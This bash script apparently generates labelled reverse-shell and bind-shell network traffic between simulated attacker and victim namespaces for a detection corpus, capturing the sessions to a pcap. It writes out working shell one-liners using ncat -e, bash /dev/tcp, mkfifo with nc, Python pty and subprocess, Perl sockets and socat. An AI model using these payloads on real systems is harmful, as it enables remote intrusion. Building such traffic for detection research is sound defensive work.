#!/usr/bin/env bash
# corpus/threats/reverse-shell.sh OUTDIR: class ReverseShell, plain TCP shells.
#
# Each session is one TCP connection between an "attacker" (client namespace) and a
# "victim" (server namespace) running a shell, made in one of the usual ways:
#   ncat -e /bin/sh (reverse and bind), socat with a pty (reverse and bind; the operator
#   types key by key into a raw terminal), bash -i >& /dev/tcp, a bash read/eval loop on
#   /dev/tcp, mkfifo + sh -i + nc, python pty.spawn, python subprocess sh -i, perl
#   socket + exec sh -i;
# the attacker listens or connects with ncat, nc (OpenBSD) or socat.
# The attacker runs 3-10 commands from mal_commands at an operator's pace (lines, or
# 2-5 commands key by key; pauses 0.2-3 s, sometimes an idle gap of 4-12 s), then exit.
# Ports vary (4444, 443, 9001, ... or a random one). Capture filter: tcp (nothing else
# runs on the link).
set -u
here=$(dirname "$0")
. "$here/../lib/netns.sh"
. "$here/malicious.bash"

# as attackers do: a few favourite ports, else anything
shell_port() { pick 4444 4444 443 9001 1234 5555 8080 53 80 31337 1337 8443 $(rand 1025 65000) $(rand 1025 65000); }

# victims (server namespace): a shell connected back to CLI_IP:PORT
victim_ncat_sh()   { ncat -n "$CLI_IP" "$1" -e /bin/sh; }
victim_ncat_bash() { ncat -n "$CLI_IP" "$1" -e /bin/bash; }
victim_bash_i()    { bash -c "bash -i >& /dev/tcp/$CLI_IP/$1 0>&1"; }
victim_bash_fd()   { bash -c "exec 5<>/dev/tcp/$CLI_IP/$1; while read -r line <&5; do eval \"\$line\" >&5 2>&5; done"; }
victim_fifo_nc()   { local f=$MAL_WORK/f$CLI_IP-$1; mkfifo "$f"; /bin/sh -i < "$f" 2>&1 | nc -n -q 1 "$CLI_IP" "$1" > "$f"; rm -f "$f"; }
victim_py_pty()    { /usr/bin/python3 -c "import socket,os,pty;s=socket.socket();s.connect(('$CLI_IP',$1));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/bash')"; }
victim_py_sh()     { /usr/bin/python3 -c "import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(('$CLI_IP',$1));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);subprocess.call(['/bin/sh','-i'])"; }
victim_perl()      { perl -e 'use Socket;$i=$ARGV[0];$p=$ARGV[1];socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};' "$CLI_IP" "$1"; }
victim_socat_pty() { socat "TCP:$CLI_IP:$1" "EXEC:bash -li,pty,stderr,setsid,sigint,sane"; }
# bind shells (server namespace): a shell served on SRV_IP:PORT
bind_ncat_sh()     { ncat -n -l "$SRV_IP" "$1" -e /bin/sh; }
bind_ncat_bash()   { ncat -n -l "$SRV_IP" "$1" -e /bin/bash; }
bind_socat_pty()   { socat "TCP-LISTEN:$1,bind=$SRV_IP,reuseaddr" "EXEC:bash -li,pty,stderr,setsid,sigint,sane"; }

# attackers (client namespace), the operator on stdin
listen_ncat()  { ncat -n -l "$CLI_IP" "$1"; }
listen_nc()    { nc -n -l "$CLI_IP" "$1"; }
listen_socat() { socat - "TCP-LISTEN:$1,bind=$CLI_IP,reuseaddr"; }
connect_ncat() { ncat -n "$SRV_IP" "$1"; }
connect_nc()   { nc -n -q 1 "$SRV_IP" "$1"; }
connect_socat() { socat - "TCP:$SRV_IP:$1"; }
export -f victim_ncat_sh victim_ncat_bash victim_bash_i victim_bash_fd victim_fifo_nc victim_py_pty \
    victim_py_sh victim_perl victim_socat_pty bind_ncat_sh bind_ncat_bash bind_socat_pty \
    listen_ncat listen_nc listen_socat connect_ncat connect_nc connect_socat

session() {
    local port
    port=$(shell_port)
    case $(rand 0 10) in
    0) reverse "$port" operator_lines "$(pick listen_ncat listen_nc)" "$(pick victim_ncat_sh victim_ncat_bash)" ;;
    1) bind "$port" operator_lines "$(pick bind_ncat_sh bind_ncat_bash)" "$(pick connect_ncat connect_nc)" ;;
    2) reverse "$port" operator_keys listen_socat victim_socat_pty ;;
    3) bind "$port" operator_keys bind_socat_pty connect_socat ;;
    4) reverse "$port" operator_lines "$(pick listen_ncat listen_nc)" victim_bash_i ;;
    5) reverse "$port" operator_lines "$(pick listen_ncat listen_nc)" "$(pick victim_bash_fd victim_perl)" ;;
    6) reverse "$port" operator_lines "$(pick listen_ncat listen_nc)" victim_fifo_nc ;;
    7) reverse "$port" operator_lines "$(pick listen_ncat listen_nc listen_socat)" victim_py_pty ;;
    8) reverse "$port" operator_lines "$(pick listen_ncat listen_nc)" victim_py_sh ;;
    9) reverse "$port" operator_lines listen_ncat "$(pick victim_ncat_sh victim_ncat_bash)" ;;
    10) reverse "$port" operator_keys listen_socat victim_py_pty ;;
    esac
}

mal_init ReverseShell "${1:-}" 38
capture_start "$MAL_OUT/reverse-shell.pcap" tcp
run_sessions 14 session
capture_stop
mal_done
